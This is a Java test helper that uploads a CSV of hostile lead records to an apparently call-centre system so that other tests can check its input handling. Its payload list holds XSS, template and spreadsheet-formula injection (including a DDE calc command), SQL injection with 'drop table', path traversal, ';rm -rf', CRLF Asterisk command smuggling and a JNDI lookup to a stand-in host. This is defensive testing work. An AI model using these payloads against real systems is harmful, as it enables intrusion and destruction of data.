package org.switchroom.system.attack;

import static org.awaitility.Awaitility.await;

import jakarta.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.switchroom.system.RestClient;

/** A file of leads in which each text, and each name of a column, is one that a careless page, template, spreadsheet, query or path would run. */
final class HostileFile {
    /** At most 64 characters each, so that every column of text takes them. Elements have the class {@code swr-hostile}, 1234*5678 is 7006652. */
    static final List<String> TEXTS = List.of(
            "<script class=swr-hostile>swrHostile=1</script>",
            "</script><script class=swr-hostile>swrHostile=1</script>",
            "\"><img src=x class=swr-hostile onerror=swrHostile=1>",
            "'><svg class=swr-hostile onload=swrHostile=1>",
            "\" onfocus=swrHostile=1 autofocus class=swr-hostile x=\"",
            "</textarea><b class=swr-hostile>",
            "</title></option></select><i class=swr-hostile>",
            "]]></update><i class=swr-hostile>",
            "--><i class=swr-hostile><!--",
            "javascript:swrHostile=1",
            "\\u003ci class=swr-hostile\\u003e",
            "&lt;i class=swr-hostile&gt;",
            "#{1234*5678}",
            "${1234*5678}",
            "{{1234*5678}}",
            "%{1234*5678}",
            "=1234*5678",
            "=cmd|' /C calc'!A0",
            "+1234*5678",
            "-1234*5678",
            "@SUM(1234*5678)",
            "\t=1234*5678",
            "  =1234*5678",
            "\uFF1D1234*5678",
            "=HYPERLINK(\"http://elsewhere.example/\",\"swr-hostile\")",
            "' or sleep(5)-- ",
            "'; drop table call_lead; -- ",
            "../../etc/asterisk/manager.conf",
            "%2e%2e%2f%2e%2e",
            ";rm -rf x",
            "\u202Egnp.exe",
            "a\r\nAction: Originate",
            "${jndi:ldap://elsewhere.example/a}");

    private static final List<String> COLUMNS =
            List.of("last_name", "first_name", "city", "comments", "vendor_id", "show", "address1", "owner", "note");
    private static final long FIRST_NUMBER = 17275560000L;

    private final RestClient rest;
    private final String path;

    /** Loads it, as it is, into this list. */
    HostileFile(RestClient rest, String listId) {
        this.rest = rest;
        RestClient.Answer uploaded = Uploads.csv(
                rest, "list_id=" + listId + "&file_name=" + PageClient.encoded(HostileTexts.SHORT + ".csv"), content());
        if (uploaded.status() != 201) {
            throw new AssertionError(uploaded.toString());
        }
        path = "/api/v1/loads/" + uploaded.json().getJsonNumber("id");
        step("check", "CHECKED");
        step("load", "DONE");
    }

    /** How many rows it has. */
    static int rows() {
        return TEXTS.size() + 1;
    }

    String id() {
        return path.substring(path.lastIndexOf('/') + 1);
    }

    JsonObject load() {
        return rest.get(path).json();
    }

    /** The rows that were not taken. */
    String refused() {
        return rest.get(path + "/refused").response().body();
    }

    private void step(String verb, String state) {
        rest.post(path + "/" + verb, "");
        await("load " + id() + " is " + state)
                .until(() -> load().getString("state").equals(state));
    }

    /** Each row begins with the next text; the last has one for its number. */
    private static String content() {
        List<String> lines = new ArrayList<>();
        lines.add(line("phone", COLUMNS, HostileTexts.SHORT));
        for (int row = 0; row < TEXTS.size(); row++) {
            int first = row;
            List<String> cells = IntStream.range(0, COLUMNS.size())
                    .mapToObj(column -> TEXTS.get((first + column) % TEXTS.size()))
                    .toList();
            lines.add(line("+" + (FIRST_NUMBER + row), cells, TEXTS.get(row)));
        }
        lines.add(line(HostileTexts.MARKUP, COLUMNS, HostileTexts.FORMULA));
        return String.join("\r\n", lines) + "\r\n";
    }

    private static String line(String phone, List<String> cells, String last) {
        List<String> all = new ArrayList<>(List.of(phone));
        all.addAll(cells);
        all.add(last);
        return all.stream().map(HostileFile::quoted).collect(Collectors.joining(","));
    }

    static String quoted(String text) {
        return '"' + text.replace("\"", "\"\"") + '"';
    }
}
